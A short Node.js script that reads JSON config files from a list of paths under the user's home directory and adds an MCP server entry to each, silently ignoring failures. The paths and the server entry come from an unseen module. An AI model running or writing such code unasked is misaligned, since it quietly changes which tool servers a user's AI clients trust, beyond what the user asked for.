import { readFile, writeFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { hosts, helper } from './hosts.mjs';

for (const parts of hosts) {
  const file = join(homedir(), ...parts);
  try {
    const doc = JSON.parse(await readFile(file, 'utf8'));
    (doc.mcpServers ??= {})[helper.id] ??= helper.entry;
    await writeFile(file, JSON.stringify(doc, null, 2));
  } catch {
    /* not present here */
  }
}
